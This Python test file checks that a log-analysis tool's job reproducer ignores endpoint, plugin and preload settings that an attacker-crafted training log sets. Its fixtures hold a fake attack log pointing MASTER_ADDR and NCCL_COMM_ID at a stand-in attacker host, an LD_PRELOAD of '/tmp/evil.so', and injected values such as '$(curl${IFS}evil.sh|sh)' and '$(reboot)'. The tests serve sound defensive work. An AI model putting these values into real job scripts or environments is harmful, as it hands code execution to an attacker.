"""Issue 18.2: a log never chooses where the reproducer connects, what it loads or what it writes.

The attack: a log that prints an attacker's MASTER_ADDR/MASTER_PORT (or names
an attacker's host as a node) made ``--emit torchrun`` rendezvous with that
host, whose fake store served a pickle that ran a command. NCCL_COMM_ID,
NCCL_RAS_ADDR, TORCH_TRACE, NCCL_NET_PLUGIN and LD_PRELOAD travelled the same
way. Only NCCL/gloo tuning settings may come from a log; everything else needs
the user's own ``--env``.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from typer.testing import CliRunner

from logsleuth.cli import app
from logsleuth.repro import run as run_module
from logsleuth.repro.emit import script
from logsleuth.repro.plan import LOG_ENV_ALLOWED, Found, PlanError, find, log_env_problem, make_plan, parse_env
from logsleuth.repro.run import adapt_to_host, child_env
from tests.conftest import events_of

runner = CliRunner()

ATTACKER_HOST = "store.evil-example.net"
ATTACKER_IP = "203.0.113.66"
#: NCCL_DEBUG=INFO's "set by environment" lines, a job script's exports and an env dump, all from one attacker.
ATTACK_JOB = f"""\
+ export MASTER_ADDR={ATTACKER_HOST} MASTER_PORT=31337
+ export NCCL_COMM_ID={ATTACKER_IP}:31338 NCCL_RAS_ADDR={ATTACKER_IP}:28028
+ export TORCH_TRACE=/tmp/evil-trace NCCL_NET_PLUGIN=evilnet LD_PRELOAD=/tmp/evil.so
+ export NCCL_SOCKET_IFNAME=eth0 NCCL_TUNER_PLUGIN=eviltuner NCCL_HOSTID=evilhost
MASTER_ADDR={ATTACKER_IP} MASTER_PORT=31339 WORLD_SIZE=4
0: gpu-b01:4242:4242 [0] NCCL INFO NCCL_IB_DISABLE set by environment to 1
0: gpu-b01:4242:4242 [0] NCCL INFO NCCL_COMM_ID set by environment to {ATTACKER_IP}:31338
0: gpu-b01:4242:4242 [0] NCCL INFO NCCL_NET_PLUGIN set by environment to libnccl-net-evil.so
0: gpu-b01:4242:4242 [0] NCCL INFO NCCL_DEBUG_FILE set by environment to /tmp/evil.%h
0: gpu-b01:4242:4242 [0] NCCL INFO NCCL_TOPO_FILE set by environment to /tmp/evil-topo.xml
0: gpu-b01:4242:4300 [0] NCCL INFO comm 0x55d4 rank 0 nranks 4 cudaDev 0 nvmlDev 0 busId 1b000 commId 0x9 - Init COMPLETE
1: gpu-b01:4243:4301 [1] NCCL INFO comm 0x55d5 rank 1 nranks 4 cudaDev 1 nvmlDev 1 busId 1c000 commId 0x9 - Init COMPLETE
2: gpu-b02:5242:5300 [0] NCCL INFO comm 0x55d6 rank 2 nranks 4 cudaDev 0 nvmlDev 0 busId 1b000 commId 0x9 - Init COMPLETE
3: gpu-b02:5243:5301 [1] NCCL INFO comm 0x55d7 rank 3 nranks 4 cudaDev 1 nvmlDev 1 busId 1c000 commId 0x9 - Init COMPLETE
0: [rank0]:[E1122 02:40:23.026531 4242 ProcessGroupNCCL.cpp:607] [Rank 0] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=7, OpType=ALLREDUCE, NumelIn=4096, NumelOut=4096, Timeout(ms)=600000) ran for 600059 milliseconds before timing out.
"""
#: Variables the attack log sets that must go nowhere.
DROPPED = (
    "MASTER_ADDR",
    "MASTER_PORT",
    "NCCL_COMM_ID",
    "NCCL_RAS_ADDR",
    "TORCH_TRACE",
    "NCCL_NET_PLUGIN",
    "NCCL_TUNER_PLUGIN",
    "NCCL_HOSTID",
    "NCCL_DEBUG_FILE",
    "NCCL_TOPO_FILE",
    "LD_PRELOAD",
)
#: Values (or their parts) from the attack log that must not reach a script or a process.
POISON = (ATTACKER_HOST, ATTACKER_IP, "31337", "31338", "31339", "28028", "evil")


@pytest.fixture(scope="module")
def found() -> Found:
    return find(events_of(ATTACK_JOB, "slurm-66.out"))


def _no_poison(text: str) -> None:
    for bad in POISON:
        assert bad not in text, bad
    for name in ("NCCL_COMM_ID", "NCCL_RAS_ADDR", "TORCH_TRACE", "NCCL_NET_PLUGIN", "NCCL_TUNER_PLUGIN", "LD_PRELOAD", "NCCL_HOSTID"):
        assert name not in text, name


def test_only_tuning_settings_are_taken_from_the_logs(found: Found) -> None:
    assert found.env == {"NCCL_SOCKET_IFNAME": "eth0", "NCCL_IB_DISABLE": "1"}


def test_a_note_names_each_dropped_variable_and_how_to_keep_it(found: Found) -> None:
    for name in DROPPED:
        assert any(n.startswith(f"dropped {name}") for n in found.notes), name
    notes = "\n".join(found.notes)
    assert (
        f"dropped NCCL_COMM_ID={ATTACKER_IP}:31338 from the logs: names an endpoint; pass --env NCCL_COMM_ID={ATTACKER_IP}:31338 to keep it"
        in notes
    )
    assert f"dropped MASTER_ADDR={ATTACKER_HOST} from the logs: names an endpoint; pass --env MASTER_ADDR=" in notes
    # what even --env refuses gets no hint to pass it
    assert "dropped NCCL_NET_PLUGIN=libnccl-net-evil.so from the logs: loads a library; never carried over" in notes
    assert "dropped LD_PRELOAD=/tmp/evil.so from the logs: loads a library; never carried over" in notes
    assert not any("--env LD_PRELOAD" in n or "--env NCCL_NET_PLUGIN" in n for n in found.notes)


@pytest.mark.parametrize("kind", ["sbatch", "torchrun"])
def test_nothing_the_attacker_set_reaches_an_emitted_script(found: Found, kind: str) -> None:
    text = script(make_plan(found), kind)
    _no_poison(text)
    assert "export NCCL_SOCKET_IFNAME=eth0\n" in text and "export NCCL_IB_DISABLE=1\n" in text


def test_torchrun_rendezvous_comes_from_the_run_time_node_list_never_from_the_logs(found: Found) -> None:
    plan = make_plan(found)
    assert plan.nodes == ("gpu-b01", "gpu-b02")  # the logs' nodes still say where to run ...
    text = script(plan, "torchrun")
    assert "gpu-b01:" not in text and "endpoint=gpu" not in text  # ... but not whom to rendezvous with
    assert 'scontrol show hostnames "$SLURM_JOB_NODELIST"' in text
    assert '"${MASTER_ADDR:?' in text


def test_sbatch_rendezvous_comes_from_the_allocation(found: Found) -> None:
    text = script(make_plan(found), "sbatch")
    assert 'export MASTER_ADDR="$(scontrol show hostnames "$SLURM_JOB_NODELIST" | head -n 1)"\n' in text
    assert "export MASTER_PORT=$((20000 + SLURM_JOB_ID % 20000))\n" in text


def test_a_node_named_by_the_user_may_be_the_rendezvous_host() -> None:
    text = script(make_plan(None, nodes="n[1-2]"), "torchrun")
    assert "endpoint=n1:29500\n" in text


def test_the_users_own_master_addr_and_port_are_honoured(found: Found) -> None:
    plan = make_plan(found, env=parse_env(["MASTER_ADDR=10.0.0.5", "MASTER_PORT=29600", f"NCCL_COMM_ID={ATTACKER_IP}:31338"]))
    assert plan.origin["env.MASTER_ADDR"] == "flag" and plan.origin["env.NCCL_IB_DISABLE"] == "logs"
    torchrun = script(plan, "torchrun")
    assert "endpoint=10.0.0.5:29600\n" in torchrun and "scontrol" not in torchrun
    sbatch = script(plan, "sbatch")
    assert "export MASTER_ADDR=10.0.0.5\n" in sbatch and "export MASTER_PORT=29600\n" in sbatch
    assert "scontrol" not in sbatch and "SLURM_JOB_ID %" not in sbatch
    # what the user confirmed on the command line is kept, even a setting dropped from the logs
    assert f"export NCCL_COMM_ID={ATTACKER_IP}:31338\n" in sbatch


def test_a_hand_made_found_cannot_smuggle_an_endpoint_into_a_plan() -> None:
    plan = make_plan(Found(env={"MASTER_ADDR": ATTACKER_HOST, "NCCL_COMM_ID": f"{ATTACKER_IP}:1", "NCCL_ALGO": "Ring"}))
    assert plan.env == {"NCCL_ALGO": "Ring"}


def test_env_given_to_make_plan_is_validated_like_env_flags() -> None:
    with pytest.raises(PlanError, match="LD_PRELOAD"):
        make_plan(None, env={"LD_PRELOAD": "/tmp/x.so"})
    with pytest.raises(PlanError, match="MASTER_ADDR"):
        make_plan(None, env={"MASTER_ADDR": "$(reboot)"})


@pytest.mark.parametrize(
    "name",
    [
        "NCCL_COMM_ID",
        "NCCL_RAS_ADDR",
        "NCCL_NET_PLUGIN",
        "NCCL_TUNER_PLUGIN",
        "NCCL_PROFILER_PLUGIN",
        "NCCL_DEBUG_FILE",
        "NCCL_TOPO_FILE",
        "NCCL_GRAPH_FILE",
        "NCCL_HOSTID",
        "NCCL_CONF_FILE",
        "MASTER_ADDR",
        "MASTER_PORT",
        "TORCH_TRACE",
        "LD_PRELOAD",
        "CUDA_VISIBLE_DEVICES",
    ],
)
def test_the_allow_list_holds_no_endpoint_file_plugin_or_library(name: str) -> None:
    assert name not in LOG_ENV_ALLOWED


def test_nothing_on_the_allow_list_names_an_address_a_file_or_a_library() -> None:
    for name in LOG_ENV_ALLOWED:
        assert name.startswith(("NCCL_", "GLOO_")), name
        assert not re.search(
            r"ADDR|(^|_)PORT(_|$)|HOSTID|HOSTNAME|_HOST$|_ID$|FILE|PATH|(^|_)DIRS?(_|$)|PLUGIN|LIB|TRACE|DUMP|PRELOAD|CMD|COMMAND", name
        ), name


@pytest.mark.parametrize(
    "name",
    ["NCCL_SOCKET_IFNAME", "NCCL_IB_HCA", "NCCL_IB_DISABLE", "NCCL_P2P_DISABLE", "NCCL_ALGO", "NCCL_PROTO", "NCCL_NET_GDR_LEVEL"]
    + ["NCCL_BUFFSIZE", "NCCL_DEBUG", "NCCL_DEBUG_SUBSYS", "GLOO_SOCKET_IFNAME", "NCCL_IB_TIMEOUT", "NCCL_P2P_DIRECT_DISABLE"],
)
def test_the_allow_list_keeps_the_tuning_settings(name: str) -> None:
    assert name in LOG_ENV_ALLOWED
    assert log_env_problem(name, "1") is None  # and a value passes: nothing else refuses it


def test_an_allowed_setting_with_an_unsafe_value_is_dropped_without_echoing_it() -> None:
    found = find(events_of("+ export NCCL_SOCKET_IFNAME=$(curl${IFS}evil.sh|sh) NCCL_ALGO=Ring\n"))
    assert found.env == {"NCCL_ALGO": "Ring"}
    assert any(n.startswith("dropped NCCL_SOCKET_IFNAME from the logs") for n in found.notes)
    assert not any("curl" in n or "evil" in n for n in found.notes)


def _clean_environ(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in DROPPED:
        monkeypatch.delenv(name, raising=False)


def test_the_local_run_never_sees_what_the_attacker_set(found: Found, monkeypatch: pytest.MonkeyPatch) -> None:
    _clean_environ(monkeypatch)
    plan, _ = adapt_to_host(make_plan(found, numel=64))
    env = child_env(plan, 0, 40000)
    assert env["MASTER_ADDR"] == "127.0.0.1" and env["MASTER_PORT"] == "40000"
    assert env["NCCL_SOCKET_IFNAME"] == "eth0" and env["NCCL_IB_DISABLE"] == "1"
    for name in DROPPED[2:]:
        assert name not in env, name
    _no_poison(" ".join(f"{k}={v}" for k, v in env.items() if k in plan.env or k.startswith(("NCCL_", "GLOO_", "MASTER_"))))


def test_repro_from_the_attack_log_starts_ranks_with_a_clean_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The whole CLI path, logs to process environments, with the processes faked (no torch needed)."""
    _clean_environ(monkeypatch)
    seen: list[dict[str, str]] = []

    def fake_spawn(plan, log_path, *, grace_s):  # type: ignore[no-untyped-def]
        port = int(plan.env.get("MASTER_PORT") or 40001)
        seen.extend(child_env(plan, rank, port) for rank in range(plan.nproc))
        log_path.write_text("")
        return [run_module.RankRun(rank=r, pid=os.getpid(), exit_code=0, status="ok") for r in range(plan.nproc)], False, []

    monkeypatch.setattr(run_module, "check_torch", lambda: None)
    monkeypatch.setattr(run_module, "spawn", fake_spawn)
    log = tmp_path / "slurm-66.out"
    log.write_text(ATTACK_JOB)
    result = runner.invoke(app, ["repro", str(log), "--numel", "64", "--format", "json"])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert len(seen) == 2
    for env in seen:
        assert env["MASTER_ADDR"] == "127.0.0.1" and env["MASTER_PORT"] == "40001"
        assert env["NCCL_SOCKET_IFNAME"] == "eth0" and env["NCCL_IB_DISABLE"] == "1"
        for name in DROPPED[2:]:
            assert name not in env, name
    assert "dropped NCCL_COMM_ID=" in result.stdout  # the JSON's notes say what was left behind


@pytest.mark.parametrize("kind", ["sbatch", "torchrun"])
def test_cli_emit_from_the_attack_log_writes_a_clean_script_and_notes_the_rest(tmp_path: Path, kind: str) -> None:
    log = tmp_path / "slurm-66.out"
    log.write_text(ATTACK_JOB)
    result = runner.invoke(app, ["repro", str(log), "--emit", kind])
    assert result.exit_code == 0, result.output
    _no_poison(result.stdout)
    assert "export NCCL_SOCKET_IFNAME=eth0\n" in result.stdout
    for name in DROPPED:
        assert f"note: dropped {name}" in result.stderr, name


def test_cli_env_master_addr_is_honoured_in_the_emitted_script(tmp_path: Path) -> None:
    log = tmp_path / "slurm-66.out"
    log.write_text(ATTACK_JOB)
    result = runner.invoke(app, ["repro", str(log), "--env", "MASTER_ADDR=10.0.0.5", "--emit", "torchrun"])
    assert result.exit_code == 0, result.output
    assert "endpoint=10.0.0.5:29500\n" in result.stdout
    _no_poison(result.stdout)


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_torchrun_script_finds_the_endpoint_at_run_time(found: Found, tmp_path: Path) -> None:
    """Run the emitted script with torchrun replaced by echo: the endpoint is the allocation's, or MASTER_ADDR, or it stops."""
    path = tmp_path / "repro.sh"
    path.write_text(script(make_plan(found), "torchrun"))
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "scontrol").write_text('#!/bin/sh\n[ "$1 $2 $3" = "show hostnames gpu-c[07-08]" ] && printf "gpu-c07\\ngpu-c08\\n"\n')
    (fake / "scontrol").chmod(0o755)
    base = {k: v for k, v in os.environ.items() if k not in ("MASTER_ADDR", "MASTER_PORT", "SLURM_JOB_NODELIST")}
    base.update({"TORCHRUN": "echo", "PATH": f"{fake}{os.pathsep}{os.environ.get('PATH', '')}"})

    def endpoint(**env: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(["bash", str(path)], env={**base, **env}, capture_output=True, text=True, timeout=30)

    in_slurm = endpoint(SLURM_JOB_NODELIST="gpu-c[07-08]")
    assert in_slurm.returncode == 0 and "--rdzv-endpoint=gpu-c07:29500 " in in_slurm.stdout
    given = endpoint(SLURM_JOB_NODELIST="gpu-c[07-08]", MASTER_ADDR="10.0.0.5")
    assert given.returncode == 0 and "--rdzv-endpoint=10.0.0.5:29500 " in given.stdout
    nowhere = endpoint()
    assert nowhere.returncode != 0 and "set MASTER_ADDR" in nowhere.stderr and not nowhere.stdout
